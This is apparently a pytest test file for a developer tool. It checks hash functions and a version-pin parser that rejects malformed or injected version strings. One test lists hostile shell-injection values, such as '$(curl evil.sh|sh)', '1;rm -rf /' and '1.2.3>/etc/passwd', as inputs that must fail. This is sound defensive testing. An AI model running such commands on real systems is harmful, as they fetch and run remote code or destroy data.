"""Stable hashes (`aishell.hashing`) and version pins (`aishell.versions.parse_pin`)."""

from __future__ import annotations

import hashlib
import itertools
import re

import pytest

from aishell.errors import UsageError
from aishell.hashing import files_hash, project_hash, selection_hash, short_hash
from aishell.versions import LATEST, parse_pin

HEX12 = re.compile(r"[0-9a-f]{12}")

# ------------------------------------------------------------------ short_hash


@pytest.mark.parametrize("data", ["", "x", "/home/alice/proj", "ünïcode", "a\nb"])
def test_short_hash_is_sha256_prefix(data: str) -> None:
    full = hashlib.sha256(data.encode()).hexdigest()
    assert short_hash(data) == full[:12]
    assert short_hash(data.encode()) == full[:12]
    assert short_hash(data, 20) == full[:20]


# ---------------------------------------------------------------- project_hash


@pytest.mark.parametrize(
    "path", ["/", "/home/alice/proj", "/home/alice/proj/", "/srv/a b,c", "/ü/路径"]
)
def test_project_hash_is_8_hex(path: str) -> None:
    h = project_hash(path)
    assert re.fullmatch(r"[0-9a-f]{8}", h)
    assert h == hashlib.sha256(path.encode()).hexdigest()[:8]


@pytest.mark.parametrize("length", [4, 8, 12, 16, 64])
def test_project_hash_length(length: int) -> None:
    assert len(project_hash("/p", length)) == length


def test_project_hash_distinguishes_paths() -> None:
    paths = ["/a", "/b", "/a/b", "/a/b/", "/A"]
    assert len({project_hash(p) for p in paths}) == len(paths)


# -------------------------------------------------------------- selection_hash

SELECTIONS = [
    {},
    {"claude": "latest"},
    {"claude": "2.0.22"},
    {"claude": "latest", "codex": "latest"},
    {"claude": "latest", "codex": "0.1.0"},
    {"claude": "latest", "codex": "latest", "gemini": "latest", "opencode": "1.0.0-beta.1"},
    {"openspec": "latest"},
    {"pi": "latest", "openspec": "latest", "claude": "latest"},
]


@pytest.mark.parametrize("selection", SELECTIONS, ids=str)
def test_selection_hash_order_independent(selection: dict[str, str]) -> None:
    expected = selection_hash(selection)
    assert HEX12.fullmatch(expected)
    for perm in itertools.permutations(selection.items()):
        assert selection_hash(dict(perm)) == expected


def test_selection_hash_distinct_for_distinct_selections() -> None:
    hashes = [selection_hash(s) for s in SELECTIONS]
    assert len(set(hashes)) == len(hashes)


@pytest.mark.parametrize(
    ("a", "b"),
    [
        ({"claude": "latest"}, {"claude": "2.0.22"}),
        ({"claude": "2.0.22"}, {"claude": "2.0.23"}),
        ({"claude": "1.0.0"}, {"claude": "1.0.0-beta"}),
        ({"claude": "1.0.0"}, {"claude": "1.0.0+build"}),
        ({"claude": "latest"}, {"codex": "latest"}),
        ({"claude": "latest"}, {"claude": "latest", "codex": "latest"}),
        ({"claude": "latest", "codex": "1.0.0"}, {"claude": "1.0.0", "codex": "latest"}),
    ],
)
def test_selection_hash_sensitive_to_tools_and_pins(a: dict[str, str], b: dict[str, str]) -> None:
    assert selection_hash(a) != selection_hash(b)


def test_selection_hash_is_stable_across_calls() -> None:
    sel = {"claude": "latest", "codex": "1.2.3"}
    assert selection_hash(sel) == selection_hash(dict(sel))


# ------------------------------------------------------------------ files_hash

FILES = [("Dockerfile", b"FROM x\n"), ("entrypoint.sh", b"#!/bin/sh\n"), ("certs/a.crt", b"PEM")]


def test_files_hash_is_12_hex() -> None:
    assert HEX12.fullmatch(files_hash(FILES))
    assert HEX12.fullmatch(files_hash([]))


@pytest.mark.parametrize("perm", list(itertools.permutations(FILES)))
def test_files_hash_order_independent(perm: tuple[tuple[str, bytes], ...]) -> None:
    assert files_hash(perm) == files_hash(FILES)


def test_files_hash_extra_order_independent() -> None:
    extra = {"A": "1", "B": "2", "C": "3"}
    expected = files_hash(FILES, extra)
    for perm in itertools.permutations(extra.items()):
        assert files_hash(FILES, dict(perm)) == expected


def test_files_hash_accepts_any_iterable() -> None:
    assert files_hash(iter(FILES)) == files_hash(FILES)
    assert files_hash(dict(FILES).items()) == files_hash(FILES)


@pytest.mark.parametrize(
    ("files", "extra"),
    [
        pytest.param([("Dockerfile", b"FROM y\n"), *FILES[1:]], None, id="content"),
        pytest.param([("Dockerfile", b"FROM x\n\n"), *FILES[1:]], None, id="trailing-newline"),
        pytest.param([("Dockerfile2", b"FROM x\n"), *FILES[1:]], None, id="name"),
        pytest.param(
            [("Dockerfile", b"#!/bin/sh\n"), ("entrypoint.sh", b"FROM x\n"), FILES[2]],
            None,
            id="contents-swapped",
        ),
        pytest.param(FILES[:2], None, id="file-removed"),
        pytest.param([*FILES, ("extra", b"")], None, id="empty-file-added"),
        pytest.param(FILES, {"BASE_IMAGE": "debian"}, id="extra-added"),
        pytest.param(FILES, {"": ""}, id="empty-extra-added"),
    ],
)
def test_files_hash_sensitive(files: list[tuple[str, bytes]], extra: dict[str, str] | None) -> None:
    assert files_hash(files, extra) != files_hash(FILES)


@pytest.mark.parametrize(
    ("a", "b"),
    [
        ({"WITH_GITLEAKS": "false"}, {"WITH_GITLEAKS": "true"}),
        ({"A": "1"}, {"B": "1"}),
        ({"A": "1"}, {"A": "1", "B": "2"}),
        ({"BASE_IMAGE": "debian:trixie-slim"}, {"BASE_IMAGE": "mirror/debian:trixie-slim"}),
    ],
)
def test_files_hash_sensitive_to_extra(a: dict[str, str], b: dict[str, str]) -> None:
    assert files_hash(FILES, a) != files_hash(FILES, b)


def test_files_hash_none_and_empty_extra_are_equal() -> None:
    assert files_hash(FILES, None) == files_hash(FILES, {}) == files_hash(FILES)


@pytest.mark.parametrize(
    ("a", "b"),
    [
        # moving bytes between a name and its content must not collide
        ([("ab", b"c")], [("a", b"bc")]),
        ([("a", b""), ("b", b"")], [("ab", b"")]),
        ([("a=1", b"")], [("a", b"=1")]),
    ],
)
def test_files_hash_boundaries(a: list[tuple[str, bytes]], b: list[tuple[str, bytes]]) -> None:
    assert files_hash(a) != files_hash(b)


# -------------------------------------------------------------------- parse_pin


@pytest.mark.parametrize("value", [None, "", "true", "latest"])
def test_latest_forms(value: str | None) -> None:
    assert parse_pin("Claude Code", value) == LATEST == "latest"


@pytest.mark.parametrize(
    "value",
    [
        "0.0.0",
        "1.2.3",
        "2.0.22",
        "10.20.30",
        "1.0.0-alpha",
        "1.0.0-alpha.1",
        "1.0.0-0.3.7",
        "1.0.0-x.7.z.92",
        "1.0.0-x-y-z.--",
        "1.0.0-rc.1+build.1",
        "1.0.0+20130313144700",
        "1.0.0-beta+exp.sha.5114f85",
        "1.0.0+21AF26D3----117B344092BD",
        "999999999.999999999.999999999",
    ],
)
def test_valid_semver(value: str) -> None:
    assert parse_pin("Claude Code", value) == value


SHELL_METACHARACTERS = list(";&|`$()[]{}<>!\\\"' \t\n*?~#")


@pytest.mark.parametrize("char", SHELL_METACHARACTERS, ids=repr)
@pytest.mark.parametrize("template", ["1.2.3{}", "{}1.2.3", "1.2{}.3", "1.2.3-a{}b", "{}"])
def test_shell_metacharacters_rejected(char: str, template: str) -> None:
    value = template.format(char) if template != "{}" else char
    with pytest.raises(UsageError) as info:
        parse_pin("Claude Code", value)
    assert "metacharacters" in info.value.message
    assert "Claude Code" in info.value.message
    assert info.value.hint
    assert info.value.exit_code == 2


@pytest.mark.parametrize(
    "value",
    [
        "1;rm -rf /",
        "$(curl evil.sh|sh)",
        "`id`",
        "1.2.3 && echo pwned",
        "1.2.3|tee /x",
        "1.2.3>/etc/passwd",
        "latest; reboot",
        "~1.2.3",
    ],
)
def test_injection_attempts_rejected_as_metacharacters(value: str) -> None:
    with pytest.raises(UsageError, match="metacharacters"):
        parse_pin("Codex CLI", value)


@pytest.mark.parametrize(
    "value",
    [
        "1",
        "1.2",
        "v1.2.3",
        "V1.2.3",
        "1.2.3.4",
        "latest2",
        "Latest",
        "LATEST",
        "false",
        "True",
        "next",
        "beta",
        "^1.2.3",
        "=1.2.3",
        "1.2.x",
        "1.2.xx",
        "1.2.3-",
        "1.2.3+",
        "1.2.3-beta_1",
        "1..3",
        ".1.2.3",
        "1.2.3.",
        "a.b.c",
        "1.2.3@latest",
        "@anthropic-ai/claude-code@1.2.3",
        "1.2.3,1.2.4",
        "1.2.3\r",
        "-1.2.3",
        "1.-2.3",
    ],
)
def test_malformed_versions_rejected(value: str) -> None:
    with pytest.raises(UsageError) as info:
        parse_pin("Gemini CLI", value)
    assert "Gemini CLI" in info.value.message
    assert repr(value) in info.value.message
    assert info.value.hint
    assert info.value.exit_code == 2


def test_non_metacharacter_errors_say_what_is_expected() -> None:
    with pytest.raises(UsageError) as info:
        parse_pin("Gemini CLI", "1.2")
    assert "metacharacters" not in info.value.message
    assert "X.Y.Z" in info.value.message


@pytest.mark.parametrize(
    "value",
    ["\u0661.\u0662.\u0663", "\uff11.\uff12.\uff13", "1.2.\u0663"],  # Arabic-Indic, fullwidth
)
def test_non_ascii_digits_rejected(value: str) -> None:
    with pytest.raises(UsageError):
        parse_pin("Claude Code", value)


@pytest.mark.parametrize("value", ["01.2.3", "1.02.3", "1.2.03"])
def test_leading_zeros_rejected(value: str) -> None:
    with pytest.raises(UsageError):
        parse_pin("Claude Code", value)
